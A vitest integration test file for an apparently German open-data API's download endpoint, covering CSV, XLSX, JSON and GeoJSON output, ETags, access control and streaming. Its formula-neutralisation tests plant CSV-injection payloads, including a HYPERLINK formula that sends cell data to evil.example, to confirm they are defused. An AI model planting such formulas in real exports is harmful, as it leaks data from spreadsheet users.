import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { createApiKey, syncCatalog } from '@hro/api/domain';
import { createTestDatabase, type TestDatabase } from '@hro/api/testing';
import { loadSampleSources } from '@hro/etl';
import { createApp } from '../app.js';
import { FORMULA_VIEW_SQL, parseCsv, registerResource, TYPED_ROWS, TYPED_VIEW_SQL } from './fixtures.js';
import { listenOnLoopback } from '../testing.js';

// a full collection before each heap sample, so that garbage does not read as buffering
setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const BIG_ROWS = 200_000;

let db: TestDatabase;
let app: FastifyInstance;
let base: string;
let typed: string;
let formula: string;
let big: string;
let boom: string;
let internal: string;
let geo: { csv: string; geojson: string };
let steeringKey: string;
let developerKey: string;

beforeAll(async () => {
  db = await createTestDatabase();
  await syncCatalog(db.pool);
  await loadSampleSources(db.pool, 'always', db.log);
  await db.pool.query(TYPED_VIEW_SQL);
  await db.pool.query(FORMULA_VIEW_SQL);
  // 200,000 rows of ~250 bytes (≈ 50 MB of CSV): buffering it would show in the heap
  await db.pool.query(`create table core.ds_big (i int primary key, name text, amount numeric, payload text)`);
  await db.pool.query(
    `insert into core.ds_big select i, 'Zeile ' || i, i * 0.25, repeat(chr(97 + i % 26), 220) from generate_series(1, ${BIG_ROWS}) i`,
  );
  await db.pool.query(`create view open.ds_big as select i, name, amount, payload from core.ds_big`);
  // fails at row 150,000, long after the first bytes went out (json is not a sort key, so rows stream in index order)
  await db.pool.query(`create view open.ds_boom as select i, jsonb_build_object('v', 10 / (150000 - i)) as doc from core.ds_big`);
  await db.pool.query(`create view core.ds_intern as select 1 as id, 'vertraulich'::text as note`);
  typed = await registerResource(db.pool, { dataset: 'typ-testdaten', view: 'open.ds_typed' });
  formula = await registerResource(db.pool, { dataset: 'formel-testdaten', view: 'open.ds_formula' });
  big = await registerResource(db.pool, { dataset: 'grosse-testdaten', view: 'open.ds_big' });
  boom = await registerResource(db.pool, { dataset: 'kaputte-testdaten', view: 'open.ds_boom' });
  internal = await registerResource(db.pool, { dataset: 'interne-testdaten', view: 'core.ds_intern', private: true });
  const { rows } = await db.pool.query<{ id: string; format: string }>(
    `select r.id, r.format from catalog.resource r join catalog.dataset d on d.id = r.dataset_id where d.name = 'stadtbereiche-rostock'`,
  );
  geo = { csv: rows.find((r) => r.format === 'CSV')?.id ?? '', geojson: rows.find((r) => r.format === 'GeoJSON')?.id ?? '' };
  steeringKey = (await createApiKey(db.pool, { name: 'downloads steering', role: 'steering' })).key;
  developerKey = (await createApiKey(db.pool, { name: 'downloads developer', role: 'developer' })).key;
  app = await createApp({
    pool: db.pool,
    log: db.log,
    introspection: true,
    rateLimits: { anonymous: 10_000, key: 10_000 },
    exportWaitMs: 3_000,
  });
  base = await listenOnLoopback(app);
}, 120_000);
afterAll(async () => {
  // the fetch client in this process may keep a connection it opened for the concurrent requests
  // but never sent a request on; Fastify's close waits for it
  app.server.closeAllConnections();
  await app.close();
  await db.close();
});

const url = (dataset: string, resource: string, query = '') => `${base}/dataset/${dataset}/resource/${resource}/download${query}`;
const get = (dataset: string, resource: string, query = '', headers: Record<string, string> = {}) =>
  fetch(url(dataset, resource, query), { headers });
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

async function xlsxRows(res: Response): Promise<ExcelJS.CellValue[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  const sheet = workbook.worksheets[0];
  const rows: ExcelJS.CellValue[][] = [];
  sheet?.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows;
}

/** Sessions of the test database left inside a transaction (an export that did not end). */
async function openTransactions(): Promise<number> {
  const { rows } = await db.pool.query<{ n: number }>(
    `select count(*)::int as n from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`,
  );
  return rows[0]?.n ?? 0;
}

describe('downloads: formats', () => {
  it('writes CSV (RFC 4180, UTF-8, CRLF) with typed values and neutralised formulas', async () => {
    const res = await get('typ-testdaten', typed);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="typ-testdaten.csv"');
    expect(await res.text()).toBe(
      'id,name,amount,day,flag,seen,doc,tags,area\r\n' +
        '1,Lichtenhagen,12.50,2024-01-31,true,2024-01-31T09:00:00Z,"{""a"": 1}","[""x"",""y""]",Nord\r\n' +
        '2,Gartenstadt/Stadtweide,-3.25,2024-02-29,false,2024-02-29T23:30:00Z,"[1, 2]","[""z""]",Süd\r\n' +
        '3,Südstadt,,,,,,,Süd\r\n' +
        '4,"Evershagen, ""Dorf""",7,2023-12-01,true,2023-12-01T00:00:00Z,"{""b"": ""x""}",[],Nord\r\n' +
        `5,"'=1+1 Formel",0,2024-03-01,false,2024-03-01T12:00:00Z,,,Mitte\r\n`,
    );
  });

  it('writes the Excel-German CSV with sep=; (decimal comma) and a BOM with bom=1', async () => {
    const res = await get('typ-testdaten', typed, '?sep=%3B&bom=1');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'), ';');
    expect(rows[0]).toEqual(['id', 'name', 'amount', 'day', 'flag', 'seen', 'doc', 'tags', 'area']);
    expect(rows[1]).toEqual(['1', 'Lichtenhagen', '12,50', '2024-01-31', 'true', '2024-01-31T09:00:00Z', '{"a": 1}', '["x","y"]', 'Nord']);
    expect(rows[2]?.slice(0, 3)).toEqual(['2', 'Gartenstadt/Stadtweide', '-3,25']);
    expect(rows[4]?.slice(0, 3)).toEqual(['4', 'Evershagen, "Dorf"', '7']);
    expect(rows[5]?.slice(0, 2)).toEqual(['5', "'=1+1 Formel"]);
  });

  it('writes JSON: an array of objects with typed values', async () => {
    const res = await get('typ-testdaten', typed, '?format=json');
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="typ-testdaten.json"');
    expect(await res.json()).toEqual(TYPED_ROWS);
  });

  it('writes GeoJSON for a geo dataset (its default format): a FeatureCollection of the 21 Stadtbereiche', async () => {
    const res = await get('stadtbereiche-rostock', geo.geojson);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/geo+json');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="stadtbereiche-rostock.geojson"');
    const collection = (await res.json()) as {
      type: string;
      features: { type: string; bbox: number[]; geometry: { type: string; coordinates: unknown[] }; properties: Record<string, unknown> }[];
    };
    expect(collection.type).toBe('FeatureCollection');
    expect(collection.features.map((f) => f.properties.code)).toEqual([...'ABCDEFGHIJKLMNOPQRSTU']);
    const { rows } = await db.pool.query<{ column_name: string }>(
      `select column_name from information_schema.columns where table_schema = 'open' and table_name = 'stadtbereiche' order by ordinal_position`,
    );
    const properties = rows.map((r) => r.column_name).filter((c) => c !== 'geometry' && !c.startsWith('bbox_'));
    for (const feature of collection.features) {
      expect(feature.type).toBe('Feature');
      expect(Object.keys(feature.properties)).toEqual(properties);
      expect(['Polygon', 'MultiPolygon']).toContain(feature.geometry.type);
      expect(feature.bbox).toHaveLength(4);
      const [minLon = 0, minLat = 0, maxLon = 0, maxLat = 0] = feature.bbox;
      // Rostock, WGS84 longitude/latitude
      expect(minLon > 11.9 && maxLon < 12.4 && minLat > 54 && maxLat < 54.3 && minLon < maxLon && minLat < maxLat).toBe(true);
    }
    expect(collection.features.find((f) => f.properties.code === 'A')?.properties.bezeichnung).toBe('Warnemünde');
  });

  it('refuses GeoJSON for a dataset without a geometry', async () => {
    const res = await get('typ-testdaten', typed, '?format=geojson');
    expect(res.status).toBe(409);
    expect(res.headers.get('content-disposition')).toBeNull();
    expect(await res.json()).toEqual({
      error: { code: 'BAD_USER_INPUT', message: 'format: GeoJSON is offered for datasets with a geometry only' },
    });
  });

  it('writes XLSX: typed cells (numbers, booleans, dates), neutralised text, no geometry column', async () => {
    const res = await get('typ-testdaten', typed, '?format=xlsx');
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="typ-testdaten.xlsx"');
    const rows = await xlsxRows(res);
    expect(rows).toHaveLength(6);
    expect(rows[0]).toEqual(['id', 'name', 'amount', 'day', 'flag', 'seen', 'doc', 'tags', 'area']);
    expect(rows[1]).toEqual([
      1,
      'Lichtenhagen',
      12.5,
      new Date('2024-01-31T00:00:00Z'),
      true,
      new Date('2024-01-31T09:00:00Z'),
      '{"a": 1}',
      '["x","y"]',
      'Nord',
    ]);
    expect(rows[2]?.slice(0, 3)).toEqual([2, 'Gartenstadt/Stadtweide', -3.25]);
    expect(rows[5]?.slice(0, 3)).toEqual([5, "'=1+1 Formel", 0]);

    const geoSheet = await xlsxRows(await get('stadtbereiche-rostock', geo.csv, '?format=xlsx'));
    expect(geoSheet).toHaveLength(22);
    expect(geoSheet[0]).not.toContain('geometry');
    expect(geoSheet[0]?.slice(0, 2)).toEqual(['code', 'bezeichnung']);
  });

  it('takes the format from a file name in the path, and defaults to the resource’s format', async () => {
    const named = await fetch(`${base}/dataset/typ-testdaten/resource/${typed}/download/daten.xlsx`);
    expect([named.status, named.headers.get('content-type')]).toEqual([
      200,
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ]);
    const csv = await get('stadtbereiche-rostock', geo.csv);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect((await csv.text()).split('\r\n')[0]).toMatch(/^code,bezeichnung,/);
  });
});

describe('downloads: formula neutralisation', () => {
  const planted = [
    `'=HYPERLINK("http://evil.example/?"&A1;"x")`,
    "'+41 381 12345",
    "'-Minus",
    "'@SUM(A1:A2)",
    "'\tTab",
    "'\rReturn",
    'harmlos = 1',
  ];

  it('prefixes text cells starting with = + - @ tab or CR with an apostrophe in CSV; numbers stay numbers', async () => {
    const text = await (await get('formel-testdaten', formula)).text();
    expect(text).toContain(`1,"'=HYPERLINK(""http://evil.example/?""&A1;""x"")",-5\r\n`);
    expect(text).toContain(`2,"'+41 381 12345",-0.5\r\n`);
    expect(text).toContain('7,harmlos = 1,7\r\n');
    const rows = parseCsv(text);
    expect(rows.slice(1).map((r) => r[1])).toEqual(planted);
    expect(rows.slice(1).map((r) => r[2])).toEqual(['-5', '-0.5', '3', '4', '5', '6', '7']);
  });

  it('does the same in XLSX, where numbers are numeric cells', async () => {
    const rows = await xlsxRows(await get('formel-testdaten', formula, '?format=xlsx'));
    // XML reads a carriage return in text as a line feed; the apostrophe is what matters
    expect(rows.slice(1).map((r) => r[1])).toEqual(planted.map((p) => p.replace('\r', '\n')));
    expect(rows.slice(1).map((r) => r[2])).toEqual([-5, -0.5, 3, 4, 5, 6, 7]);
  });

  it('leaves JSON as it is (no spreadsheet reads it)', async () => {
    const rows = (await (await get('formel-testdaten', formula, '?format=json')).json()) as { text: string }[];
    expect(rows[0]?.text).toBe('=HYPERLINK("http://evil.example/?"&A1;"x")');
  });
});

describe('downloads: caching and HEAD', () => {
  it('sends ETag and Last-Modified from the data version, answers HEAD without a body and revalidates with 304', async () => {
    const res = await get('typ-testdaten', typed);
    await res.text();
    const etag = res.headers.get('etag') ?? '';
    const lastModified = res.headers.get('last-modified') ?? '';
    const { rows } = await db.pool.query<{ version: string; changed_at: Date }>(`select version::text, changed_at from core.data_version`);
    expect(etag).toMatch(new RegExp(`^"${typed}\\.${rows[0]?.version}\\.[\\w-]{16}"$`));
    expect(new Date(lastModified).getTime()).toBe(Math.floor((rows[0]?.changed_at.getTime() ?? 0) / 1000) * 1000);
    expect(res.headers.get('cache-control')).toBe('public, no-cache');

    const head = await fetch(url('typ-testdaten', typed), { method: 'HEAD' });
    expect(head.status).toBe(200);
    for (const name of ['etag', 'last-modified', 'content-type', 'content-disposition', 'cache-control']) {
      expect(head.headers.get(name), name).toBe(res.headers.get(name));
    }
    expect(await head.text()).toBe('');

    for (const inm of [etag, `W/${etag}`, `"other", ${etag}`, '*']) {
      const cached = await get('typ-testdaten', typed, '', { 'if-none-match': inm });
      expect([cached.status, await cached.text(), cached.headers.get('etag')]).toEqual([304, '', etag]);
    }
    expect((await get('typ-testdaten', typed, '', { 'if-modified-since': lastModified })).status).toBe(304);
    expect((await get('typ-testdaten', typed, '', { 'if-none-match': '"other"' })).status).toBe(200);
    expect((await get('typ-testdaten', typed, '', { 'if-modified-since': 'Mon, 01 Jan 2024 00:00:00 GMT' })).status).toBe(200);
    // another representation is another entity
    for (const query of ['?sep=%3B', '?bom=1', '?format=json', '?format=xlsx']) {
      const other = await get('typ-testdaten', typed, query, { 'if-none-match': etag });
      expect(other.status, query).toBe(200);
      expect(other.headers.get('etag'), query).not.toBe(etag);
      await other.arrayBuffer();
    }

    // an ETL run commits: the data version moves and the old ETag no longer matches
    await db.pool.query(`update core.data_version set version = version + 1, changed_at = now() + interval '1 second'`);
    const fresh = await get('typ-testdaten', typed, '', { 'if-none-match': etag });
    expect(fresh.status).toBe(200);
    expect(fresh.headers.get('etag')).not.toBe(etag);
    expect(await fresh.text()).toMatch(/^id,name/);
  });
});

describe('downloads: access and errors', () => {
  it('serves an internal dataset to the steering team only, never cached by others', async () => {
    const anonymous = await get('interne-testdaten', internal);
    expect([anonymous.status, ((await anonymous.json()) as { error: { code: string } }).error.code]).toEqual([401, 'UNAUTHENTICATED']);
    const developer = await get('interne-testdaten', internal, '', { authorization: developerKey });
    expect([developer.status, ((await developer.json()) as { error: { code: string } }).error.code]).toEqual([403, 'FORBIDDEN']);
    const head = await fetch(url('interne-testdaten', internal), { method: 'HEAD' });
    expect(head.status).toBe(401);
    const steering = await get('interne-testdaten', internal, '', { authorization: steeringKey });
    expect([steering.status, await steering.text()]).toEqual([200, 'id,note\r\n1,vertraulich\r\n']);
    expect(steering.headers.get('cache-control')).toBe('private, no-store');
  });

  it('answers 404 for unknown resources and for a resource asked under another dataset, 409 for bad options', async () => {
    for (const [dataset, resource] of [
      ['typ-testdaten', '2f6f5d33-0000-4000-8000-000000000000'],
      ['typ-testdaten', 'kein-uuid'],
      ['formel-testdaten', typed],
      ['gibt-es-nicht', typed],
    ] as const) {
      const res = await get(dataset, resource);
      expect(res.status, `${dataset}/${resource}`).toBe(404);
      expect(((await res.json()) as { error: { code: string } }).error.code).toBe('NOT_FOUND');
    }
    const byId = await db.pool.query<{ id: string }>(`select id from catalog.dataset where name = 'typ-testdaten'`);
    expect((await get(byId.rows[0]?.id ?? '', typed)).status).toBe(200);
    for (const [query, field] of [
      ['?format=pdf', 'format'],
      ['?sep=|', 'sep'],
      ['?bom=vielleicht', 'bom'],
    ]) {
      const res = await get('typ-testdaten', typed, query);
      expect(res.status, query).toBe(409);
      expect(((await res.json()) as { error: { message: string } }).error.message.startsWith(`${field}:`)).toBe(true);
    }
  });
});

describe('downloads: streaming', () => {
  it(`streams ${BIG_ROWS.toLocaleString('en')} rows uncapped in flat memory, at the pace of a slow reader`, async () => {
    gc();
    const baseline = process.memoryUsage().heapUsed;
    let peak = 0;
    const sample = () => {
      gc();
      peak = Math.max(peak, process.memoryUsage().heapUsed - baseline);
    };
    const res = await get('grosse-testdaten', big);
    expect(res.status).toBe(200);
    const reader = (res.body as ReadableStream<Uint8Array>).getReader();
    const decoder = new TextDecoder();
    let bytes = 0;
    let lines = 0;
    let tail = '';
    let nextSample = 0;
    for (let chunk = await reader.read(), n = 0; !chunk.done; chunk = await reader.read(), n++) {
      bytes += chunk.value.byteLength;
      const text = decoder.decode(chunk.value, { stream: true });
      for (let i = text.indexOf('\n'); i >= 0; i = text.indexOf('\n', i + 1)) lines++;
      tail = (tail + text).slice(-600);
      // a reader that pauses: the server must wait rather than buffer the rest
      if (n === 0) {
        await sleep(1000);
        sample();
      }
      if (bytes >= nextSample) {
        sample();
        nextSample += 8 << 20;
      }
    }
    sample();
    expect(lines).toBe(BIG_ROWS + 1);
    expect(bytes).toBeGreaterThan(45 << 20);
    const letter = String.fromCharCode(97 + (BIG_ROWS % 26));
    expect(tail.endsWith(`${BIG_ROWS},Zeile ${BIG_ROWS},${BIG_ROWS * 0.25}.00,${letter.repeat(220)}\r\n`)).toBe(true);
    // the whole body is ~50 MB; a server that buffered it would hold it in the heap
    expect(peak).toBeLessThan(24 << 20);
    expect(await openTransactions()).toBe(0);
  }, 60_000);

  it('cuts the connection when the export fails midway, so the file never looks complete, and cleans up', async () => {
    const res = await get('kaputte-testdaten', boom);
    expect(res.status).toBe(200);
    let received = 0;
    const reader = (res.body as ReadableStream<Uint8Array>).getReader();
    const reading = (async () => {
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) received += chunk.value.byteLength;
    })();
    await expect(reading).rejects.toThrow();
    expect(received).toBeGreaterThan(1 << 20);
    // the connection went back to the pool (or was replaced): the next export works
    const next = await get('typ-testdaten', typed);
    expect(next.status).toBe(200);
    await next.text();
    expect(await openTransactions()).toBe(0);
  }, 30_000);

  it('leaves no database connection behind when clients give up before the first byte or while waiting', async () => {
    // staggered aborts: before the slot, while waiting for one, between the export's start and its first read
    const outcomes = await Promise.all(
      Array.from({ length: 24 }, async (_, i) => {
        const abort = new AbortController();
        setTimeout(() => abort.abort(), 5 + i * 4);
        try {
          const res = await fetch(url('grosse-testdaten', big), { signal: abort.signal });
          await res.arrayBuffer();
          return res.status;
        } catch {
          return 'aborted';
        }
      }),
    );
    expect(outcomes.filter((o) => o === 'aborted').length).toBeGreaterThan(10);
    for (let attempt = 0; attempt < 100 && (await openTransactions()) > 0; attempt++) await sleep(100);
    expect(await openTransactions()).toBe(0);
    // every connection is back: as many exports as there are slots run at once, and the API answers
    const again = await Promise.all([get('typ-testdaten', typed), get('typ-testdaten', typed)]);
    expect(again.map((r) => r.status)).toEqual([200, 200]);
    for (const res of again) await res.arrayBuffer();
    const pool = db.pool as unknown as { totalCount: number; idleCount: number };
    expect(pool.idleCount).toBe(pool.totalCount);
  }, 30_000);

  it('limits concurrent exports (a short wait, then 503 with Retry-After) and hands a freed slot to the next', async () => {
    // the test pool has 5 connections: 2 may stream at once
    const held = [await get('grosse-testdaten', big), await get('grosse-testdaten', big)];
    expect(held.map((r) => r.status)).toEqual([200, 200]);
    // a third waits for a slot (3 s here, exportWaitMs), then is refused
    const asked = performance.now();
    const refused = await get('typ-testdaten', typed);
    expect(performance.now() - asked).toBeGreaterThan(2_500);
    expect([refused.status, refused.headers.get('retry-after')]).toEqual([503, '10']);
    expect(((await refused.json()) as { error: { code: string } }).error.code).toBe('UNAVAILABLE');
    // HEAD needs no slot
    expect((await fetch(url('typ-testdaten', typed), { method: 'HEAD' })).status).toBe(200);
    // one that waits gets the slot a client frees meanwhile
    const waiting = get('typ-testdaten', typed);
    await sleep(300);
    await held[0]?.body?.cancel();
    const served = await waiting;
    expect(served.status).toBe(200);
    await served.arrayBuffer();
    for (const res of held.slice(1)) await res.body?.cancel();
    let status = 0;
    for (let attempt = 0; attempt < 50 && status !== 200; attempt++) {
      await sleep(100);
      const res = await get('typ-testdaten', typed);
      status = res.status;
      await res.arrayBuffer();
    }
    expect(status).toBe(200);
    for (let attempt = 0; attempt < 50 && (await openTransactions()) > 0; attempt++) await sleep(100);
    expect(await openTransactions()).toBe(0);
  }, 30_000);
});
